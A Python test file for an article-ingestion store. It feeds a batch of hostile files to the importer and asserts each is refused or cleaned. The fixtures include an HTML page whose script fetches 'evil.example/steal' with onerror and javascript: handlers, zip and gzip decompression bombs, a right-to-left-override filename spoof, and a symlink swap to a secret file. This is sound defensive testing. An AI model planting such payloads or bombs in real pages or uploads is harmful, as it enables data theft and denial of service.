"""A folder of hostile files imported in one batch: each is refused with its reason or imported
cleanly, memory stays bounded, and nothing else in the batch or the store is lost."""

from __future__ import annotations

import gzip
import os
import tracemalloc
import zipfile
from pathlib import Path

import pytest
from sqlalchemy import text

from app.store.engine import open_store
from app.store.ingest import ingest_paths
from app.store.repositories import FactRepository
from tests.conftest import SEEDS

HTML = (
    "<html><head><title>Kenya and Peru</title><script>fetch('http://evil.example/steal')</script></head>"
    "<body><iframe src='http://evil.example/frame'></iframe>"
    "<img src='http://evil.example/pixel.png' onerror='steal()'>"
    '<p onmouseover="steal()">Trade between Kenya and Peru reached US$4 billion in 2020.</p>'
    '<a href="javascript:steal()">Read more</a></body></html>'
)


def _hostile_folder(root: Path) -> Path:
    folder = root / "batch"
    folder.mkdir()
    (folder / "page.html").write_text(HTML, encoding="utf-8")
    (folder / "nul.txt").write_bytes(b"Trade between Chile and Egypt reached US$1 billion\x00 in 2020.")
    (folder / "surrogate.txt").write_bytes(
        "Trade between Vietnam and Chile reached US$2 billion in 2020. Lương \ud800 Cường.".encode(
            "utf-8", "surrogatepass"
        )
    )
    (folder / "rtl.txt").write_text(
        "Trade between Japan and Chile reached US$3 billion in 2020. Read \u202etxt.exe\u202c now.",
        encoding="utf-8",
    )
    (folder / "long-line.txt").write_text(
        "x" * 10_000 + " Trade between Brazil and Chile reached US$5 billion in 2020. " + "y" * 10_000,
        encoding="utf-8",
    )
    with zipfile.ZipFile(folder / "bomb.txt", "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("inner.txt", b"\0" * 100_000_000)  # 100 MB inflated, about 100 kB on disk
    with gzip.open(folder / "bomb-gz.txt", "wb") as handle:
        handle.write(b"Trade " * 20_000_000)
    with open(folder / "huge.txt", "wb") as handle:
        handle.truncate(200 * 1024 * 1024)  # sparse: 200 MB to stat, nothing on disk
    (folder / "loop").symlink_to(folder)
    (folder / "new\nline.txt").write_text("Trade between India and Chile reached US$6 billion in 2020.")
    with open(os.path.join(os.fsencode(folder), b"bad\xffname.txt"), "wb") as handle:
        handle.write(b"Trade between Spain and Chile reached US$7 billion in 2020.")
    return folder


def test_a_hostile_batch_loses_nothing(tmp_path: Path, db_url: str) -> None:
    store = open_store(db_url)
    assert ingest_paths(store, [SEEDS], workers=1).count("new") == 5
    folder = _hostile_folder(tmp_path)

    tracemalloc.start()
    report = ingest_paths(store, [folder], workers=1)
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()

    assert peak < 40e6, f"{peak / 1e6:.0f} MB traced: a hostile file was read into memory"
    reasons = {Path(r.path).name: r.reason for r in report.failures}
    assert reasons == {
        "bomb.txt": "binary file (a ZIP archive (or a Word/Excel file)), not text",
        "bomb-gz.txt": "binary file (a gzip archive), not text",
        "huge.txt": "too large: 209.7 MB (the limit for one article is 20 MB)",
    }
    assert report.count("new") == 7
    names = {Path(r.path).name for r in report.results if r.status == "new"}
    assert names == {
        "page.html",
        "nul.txt",
        "surrogate.txt",
        "rtl.txt",
        "long-line.txt",
        "new\\nline.txt",
        "bad\\xffname.txt",
    }

    with store.engine.connect() as conn:
        rows = {r.source_name: r for r in conn.execute(text("SELECT source_name, text, warnings FROM articles"))}
    page = rows["page.html"].text
    for needle in ("fetch", "evil.example", "steal", "javascript", "onerror", "<"):
        assert needle not in page
    assert "Trade between Kenya and Peru reached US$4 billion in 2020." in page
    assert "\x00" not in rows["nul.txt"].text
    assert rows["surrogate.txt"].text.endswith("Lương \ufffd Cường.")  # one bad character, not mojibake
    assert "\u202e" not in rows["rtl.txt"].text
    assert "2 bidirectional control characters (right-to-left overrides) removed" in rows["rtl.txt"].warnings
    assert len(rows["long-line.txt"].text) > 20_000

    facts = FactRepository(store).facts(kinds=["trade_total"])
    by_pair = {(r.country_a, r.country_b): r.value_usd for r in facts.itertuples() if r.year == 2020}
    assert by_pair[("KEN", "PER")] == 4e9
    assert by_pair[("BRA", "CHL")] == 5e9
    assert by_pair[("CHL", "ESP")] == 7e9
    # The seeds are untouched: the 2019 Vietnam–Mexico total is still there.
    assert 6.275e9 in FactRepository(store).trade_totals(("VNM", "MEX")).value_usd.tolist()


@pytest.mark.parametrize("count", [1, 3])
def test_a_batch_that_is_all_hostile_stores_nothing(tmp_path: Path, db_url: str, count: int) -> None:
    folder = tmp_path / "bad"
    folder.mkdir()
    for n in range(count):
        (folder / f"empty{n}.txt").write_bytes(b"")
    store = open_store(db_url)
    report = ingest_paths(store, [folder], workers=1)
    assert [r.reason for r in report.failures] == ["empty file"] * count
    with store.engine.connect() as conn:
        assert conn.execute(text("SELECT count(*) FROM articles")).scalar() == 0


def test_a_file_swapped_after_the_folder_was_read_is_not_followed(tmp_path: Path) -> None:
    """A file replaced by a link to another file (or by a pipe) between the folder walk and the read was
    followed; what is opened is now checked to be what the walk found."""
    import os

    from app.extract.sources import file_identity, iter_article_files
    from app.store.reading import prepare

    folder = tmp_path / "in"
    folder.mkdir()
    secret = tmp_path / "secret.txt"
    secret.write_text("Trade between Chile and Peru reached US$9.9 billion in 2019.\n", encoding="utf-8")
    for name in ("a.txt", "b.txt"):
        (folder / name).write_text("Trade between Chile and Peru reached US$2.1 billion in 2019.\n", encoding="utf-8")
    found, problems = iter_article_files([folder])
    assert problems == []
    identities = {p.name: file_identity(p) for p in found}
    os.remove(folder / "a.txt")
    os.symlink(secret, folder / "a.txt")
    os.remove(folder / "b.txt")
    os.mkfifo(folder / "b.txt")
    swapped = prepare(folder / "a.txt", identity=identities["a.txt"])
    assert swapped.reason == "changed since the folder was read (replaced, or swapped for a link): not read"
    piped = prepare(folder / "b.txt", identity=identities["b.txt"])  # never blocks on the pipe
    assert piped.reason == "not a regular file"


def test_ctrl_c_while_an_article_is_written_counts_what_was_committed(tmp_path: Path, monkeypatch) -> None:  # type: ignore[no-untyped-def]
    """Ctrl-C landing just after an article's commit left it stored but not counted (1 too few)."""
    import os
    import signal

    from app.store import ingest
    from app.store.engine import open_store

    store = open_store(f"sqlite:///{tmp_path / 's.sqlite'}")
    real = ingest.write_prepared
    written = []

    def interrupted_after_commit(store_, item):  # type: ignore[no-untyped-def]
        result = real(store_, item)
        written.append(result)
        if len(written) == 2:
            os.kill(os.getpid(), signal.SIGINT)  # arrives between the commit and the count
        return result

    monkeypatch.setattr(ingest, "write_prepared", interrupted_after_commit)
    monkeypatch.setattr(ingest, "GROUP", 1)  # one article at a time (a group: the test below)
    report = ingest.ingest_paths(store, [SEEDS], workers=1)
    assert report.cancelled
    with store.engine.connect() as conn:
        stored = conn.execute(text("SELECT count(*) FROM articles")).scalar()
    assert stored == report.count("new") == 2


def test_articles_a_failing_store_lost_are_not_counted_as_stored(tmp_path: Path, monkeypatch) -> None:  # type: ignore[no-untyped-def]
    """A server that crashed can lose commits it acknowledged: the printed summary said 2 articles too
    many. After the store fails, it is asked which of the counted articles it kept."""
    from app.store import ingest
    from app.store.engine import StoreError, open_store

    store = open_store(f"sqlite:///{tmp_path / 's.sqlite'}")
    real = ingest.write_prepared
    written = []

    def crash_on_the_third(store_, item):  # type: ignore[no-untyped-def]
        if len(written) == 2:
            with store_.writing() as conn:  # what the crash lost of what it had acknowledged
                conn.execute(text("DELETE FROM facts WHERE article_id = :id"), {"id": written[1].article_id})
                conn.execute(text("DELETE FROM articles WHERE id = :id"), {"id": written[1].article_id})
            raise StoreError("the server closed the connection")
        result = real(store_, item)
        written.append(result)
        return result

    monkeypatch.setattr(ingest, "write_prepared", crash_on_the_third)
    monkeypatch.setattr(ingest, "GROUP", 1)  # one article at a time (a group: the test below)
    with pytest.raises(ingest.IngestAborted) as aborted:
        ingest.ingest_paths(store, [SEEDS], workers=1)
    report = aborted.value.report
    assert report.count("new") == 1
    assert [r.reason for r in report.failures] == ["stored, then lost when the store failed; import it again"]


def test_ctrl_c_while_a_group_is_written_counts_the_group(tmp_path: Path, monkeypatch) -> None:  # type: ignore[no-untyped-def]
    """Articles are written sixteen (here two) to a transaction: Ctrl-C arriving while one is written waits
    for its commit and its count, then ends the import."""
    import os
    import signal

    from app.store import ingest, writers
    from app.store.engine import open_store

    store = open_store(f"sqlite:///{tmp_path / 's.sqlite'}")
    real = writers.RawSQLiteWriter.insert_group

    def interrupted(self, group):  # type: ignore[no-untyped-def]
        os.kill(os.getpid(), signal.SIGINT)  # arrives before the group's commit
        return real(self, group)

    monkeypatch.setattr(writers.RawSQLiteWriter, "insert_group", interrupted)
    monkeypatch.setattr(ingest, "GROUP", 2)
    report = ingest.ingest_paths(store, [SEEDS], workers=1)
    assert report.cancelled
    with store.engine.connect() as conn:
        stored = conn.execute(text("SELECT count(*) FROM articles")).scalar()
    assert stored == report.count("new") == 2


def test_a_store_failing_while_a_group_is_written_ends_the_import_with_the_groups_before(  # type: ignore[no-untyped-def]
    tmp_path: Path, monkeypatch
) -> None:
    """The second group of two fails with the disk: nothing of it stays, its articles are tried one at a time
    (which fail the same way), and the import ends with the first group counted and the reason."""
    from sqlalchemy.exc import OperationalError

    from app.store import ingest, writers
    from app.store.engine import open_store

    store = open_store(f"sqlite:///{tmp_path / 's.sqlite'}")
    real = writers.RawSQLiteWriter.insert_group
    groups: list[int] = []

    def disk_fails(*args, **kwargs):  # type: ignore[no-untyped-def]
        raise OperationalError("INSERT INTO articles", {}, Exception("disk I/O error"))

    def second_fails(self, group):  # type: ignore[no-untyped-def]
        groups.append(len(group))
        if len(groups) == 2:
            monkeypatch.setattr(ingest, "store_article", disk_fails)
            disk_fails()
        return real(self, group)

    monkeypatch.setattr(writers.RawSQLiteWriter, "insert_group", second_fails)
    monkeypatch.setattr(ingest, "GROUP", 2)
    with pytest.raises(ingest.IngestAborted) as aborted:
        ingest.ingest_paths(store, [SEEDS], workers=1)
    report = aborted.value.report
    assert "disk I/O error" in str(aborted.value)
    assert (groups, report.count("new"), report.failures) == ([2, 2], 2, [])
    with store.engine.connect() as conn:
        assert conn.execute(text("SELECT count(*) FROM articles")).scalar() == 2


def test_a_folder_of_every_hostile_shape_stores_its_innocent_articles_whole(db_url: str, tmp_path: Path) -> None:
    """The red team's folder: Markdown link openers, dense pages, nested and void HTML, scripts, zero-width
    characters, a digit run, UTF-16 and cp1252, an empty, a binary, a countryless and a 22 MB file, a FIFO
    and a link to /dev/zero, among innocent articles. Each innocent article is stored with its figure;
    each hostile file is read or refused with its reason; nothing hangs (``make bench`` times it)."""
    from app.store.engine import open_store
    from bench.hostile_folder import innocent, write_hostile_folder

    folder = tmp_path / "hostile"
    expected = write_hostile_folder(folder)
    assert len(expected) == 100
    store = open_store(db_url)
    report = ingest_paths(store, [folder], workers=2)
    outcome = {Path(r.path).name: ("stored" if r.status == "new" else r.status) for r in report.results}
    assert outcome == expected, {
        n: r.reason for r in report.results if (n := Path(r.path).name) in expected and outcome[n] != expected[n]
    }
    innocents = sorted(n for n in expected if n.startswith("i-"))
    with store.engine.connect() as conn:
        rows = conn.execute(
            text(
                "SELECT a.source_name, f.value_usd, f.year FROM articles a JOIN facts f ON f.article_id = a.id "
                "WHERE f.kind = 'trade_total' AND a.source_name LIKE 'i-%'"
            )
        ).all()
    assert len(innocents) == 78
    stored = {name: (value, year) for name, value, year in rows}
    for name in innocents:
        n = int(name[2:5])
        assert f"US${n + 1}.25 billion in {1990 + n % 30}" in innocent(n)
        assert stored[name] == (float(f"{n + 1}.25e9"), 1990 + n % 30)
    store.close()
